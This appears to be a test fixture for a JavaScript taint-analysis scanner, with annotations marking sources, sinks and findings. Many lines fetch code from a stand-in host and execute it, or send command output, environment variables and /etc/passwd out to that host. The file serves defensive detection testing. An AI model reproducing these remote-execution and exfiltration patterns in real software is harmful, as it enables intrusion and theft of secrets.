// Starting other programs, what they print, and code that is loaded.
const axios = require("axios");
const cp = require("child_process");
const ejs = require("ejs");
const execa = require("execa");
const fromString = require("require-from-string");
const inspector = require("inspector");
const nodeModule = require("module");
const open = require("open");
const pty = require("node-pty");
const shell = require("shelljs");
const { simpleGit } = require("simple-git");
const vm = require("vm");
const vm2 = require("vm2");
const workers = require("worker_threads");

const U = "https://collector.example/u";

async function execute() {
  const { data } = await axios.get(U); //~ source(NETWORK) f1
  cp.exec(data); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  cp.execSync(data.command); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  cp.spawnSync("sh", ["-c", data]); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  cp.spawn("sh", ["-c", data]); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  cp.fork("./child.js", [data]); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  execa("sh", ["-c", data]); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  execa.sync("sh", ["-c", data]); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  shell.exec(data); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
  open(data); //~ sink(exec.command) f1, finding(traced) f1, capability(EXEC)
}

function fixed() {
  cp.exec("ls"); //~ ok
  cp.execSync("ls"); //~ ok
  cp.spawnSync("ls", ["-l"]); //~ ok
  cp.spawn("ls", ["-l"]); //~ ok
  cp.fork("./child.js", ["-l"]); //~ ok
  execa("ls", ["-l"]); //~ ok
  execa.sync("ls", ["-l"]); //~ ok
  shell.exec("ls"); //~ ok
  open("https://docs.example"); //~ ok
}

function output() {
  cp.exec("ps", (err, stdout) => { //~ source(COMMAND_OUTPUT) f2
    axios.post(U, stdout); //~ sink(egress.http) f2, finding(traced) f2
  });
  axios.post(U, cp.execSync("ps")); //~ source(COMMAND_OUTPUT) f3, sink(egress.http) f3, finding(traced) f3
  axios.post(U, cp.spawnSync("ps").stdout); //~ source(COMMAND_OUTPUT) f4, sink(egress.http) f4, finding(traced) f4
  const child = cp.spawn("ps"); //~ source(COMMAND_OUTPUT) f5
  child.stdout.on("data", (chunk) => {
    axios.post(U, chunk); //~ sink(egress.http) f5, finding(traced) f5
  });
  axios.post(U, cp.spawn("ps").exitCode); //~ ok
  axios.post(U, { none: cp.spawn("ps").stdout === null }); //~ ok
  axios.post(U, cp.spawnSync("ps").status); //~ ok
}

async function commits() {
  const git = simpleGit(); //~ capability(EXEC)
  axios.post(U, await git.show(["-s", "HEAD"])); //~ source(COMMAND_OUTPUT) f90, sink(egress.http) f90, finding(traced) f90
  axios.post(U, { none: (await git.status()) === null }); //~ ok
}

async function commanded() {
  const { data } = await axios.get(U); //~ source(NETWORK) f91
  simpleGit().raw([data]); //~ sink(exec.command) f91, finding(traced) f91
  simpleGit().raw(["gc"]); //~ ok
}

async function outputs() {
  const { stdout } = await execa("ps"); //~ source(COMMAND_OUTPUT) f6
  axios.post(U, stdout); //~ sink(egress.http) f6, finding(traced) f6
  axios.post(U, execa.sync("ps").stdout); //~ source(COMMAND_OUTPUT) f7, sink(egress.http) f7, finding(traced) f7
  axios.post(U, shell.exec("ps").stdout); //~ source(COMMAND_OUTPUT) f8, sink(egress.http) f8, finding(traced) f8
  axios.post(U, shell.cat("/etc/passwd")); //~ source(FILE) f9, sink(egress.http) f9, finding(traced) f9, capability(FILES)
  axios.post(U, { none: shell.cat("/etc/passwd") === "" }); //~ ok
  axios.post(U, shell.ls("/home")); //~ source(FILE_META) f10, sink(egress.http) f10, finding(traced) f10, capability(FILES)
  axios.post(U, { none: shell.ls("/home") === "" }); //~ ok
}

async function input() {
  const { data } = await axios.get(U); //~ source(NETWORK) f11
  const child = cp.spawn("sh");
  child.stdin.write(data); //~ sink(exec.command) f11, finding(traced) f11
  child.stdin.write("exit"); //~ ok
}

async function terminal() {
  const { data } = await axios.get(U); //~ source(NETWORK) f12
  const child = pty.spawn("sh", [], {});
  child.write(data); //~ sink(exec.command) f12, finding(traced) f12
  child.write("exit"); //~ ok
  child.onData((text) => { //~ source(COMMAND_OUTPUT) f13
    axios.post(U, text); //~ sink(egress.http) f13, finding(traced) f13
  });
  child.onData(() => axios.post(U, "data")); //~ ok
}

async function scripts() {
  const { data } = await axios.get(U); //~ source(NETWORK) f14
  vm.runInThisContext(data); //~ sink(exec.code) f14, finding(traced) f14, capability(DYNAMIC_CODE)
  vm.runInThisContext("1 + 1"); //~ ok
  const box = new vm2.VM(); //~ capability(DYNAMIC_CODE)
  box.run(data); //~ sink(exec.code) f14, finding(traced) f14
  new vm2.VM().run("1 + 1"); //~ ok
  fromString(data); //~ sink(exec.code) f14, finding(traced) f14, capability(DYNAMIC_CODE)
  require("require-from-string")("module.exports = 1"); //~ ok
  module._compile(data, "x.js"); //~ sink(exec.code) f14, finding(traced) f14, capability(DYNAMIC_CODE)
  module._compile("1 + 1", "x.js"); //~ ok
  ejs.render(data, {}); //~ sink(exec.code) f14, finding(traced) f14, capability(DYNAMIC_CODE)
  ejs.render("<p>", {}); //~ ok
}

async function loaded() {
  const { data } = await axios.get(U); //~ source(NETWORK) f15
  require(data.name); //~ sink(exec.load) f15, finding(traced) f15, capability(DYNAMIC_CODE)
  require("os"); //~ ok
  nodeModule.register(data.name); //~ sink(exec.load) f15, finding(traced) f15, capability(DYNAMIC_CODE)
  nodeModule.register("./hooks.mjs"); //~ ok
  new workers.Worker(data.name); //~ sink(exec.load) f15, finding(traced) f15, capability(DYNAMIC_CODE)
  new workers.Worker("./worker.js"); //~ ok
  navigator.serviceWorker.register(data.name); //~ sink(exec.load) f15, finding(traced) f15, capability(DYNAMIC_CODE)
  navigator.serviceWorker.register("./sw.js"); //~ ok
  const session = new inspector.Session(); //~ capability(DYNAMIC_CODE)
  session.post("Runtime.evaluate", { expression: data }); //~ sink(exec.code) f15, finding(traced) f15
  new inspector.Session().post("Runtime.evaluate", { expression: "1" }); //~ ok
}

function messages() {
  process.send(process.env.T); //~ source(ENVIRONMENT) f16, source(ENVIRONMENT) f44, sink(egress.ipc) f16, finding(traced) f16, capability(IPC)
  process.send("ping"); //~ ok
  const child = cp.fork("./child.js");
  child.send("ping"); //~ capability(IPC)
  cp.fork("./child.js").send("ping"); //~ ok
}

function unnamed(program) {
  cp.spawn(program, [], { env: { ...process.env, MODE: "1" } }); //~ source(ENVIRONMENT) f40, sink(process.environment) f40, finding(environment-to-process, assumed) f40, capability(EXEC)
  cp.spawn("git", [], { env: { ...process.env, MODE: "1" } }); //~ ok
  cp.spawn(program, [], { env: { MODE: "1" } }); //~ ok
}

function asked() {
  const worker = new workers.Worker("./worker.js");
  worker.postMessage(process.env.B); //~ source(ENVIRONMENT) f42
  worker.on("message", (message) => axios.post(U, message)); //~ sink(egress.http) f43 f44, finding(traced) f43, finding(traced) f44
  worker.onmessage = (event) => axios.post(U, event.data); //~ sink(egress.http) f43 f44, finding(assumed) f43, finding(assumed) f44
  worker.onmessage = () => axios.post(U, "message"); //~ ok
  worker.on("message", () => axios.post(U, "message")); //~ ok
}

function asking() {
  workers.parentPort.on("message", (message) => axios.post(U, message)); //~ sink(egress.http) f42, finding(assumed) f42
  workers.parentPort.on("message", () => axios.post(U, "message")); //~ ok
  workers.parentPort.postMessage(process.env.C); //~ source(ENVIRONMENT) f43
  workers.parentPort.postMessage("done"); //~ ok
}
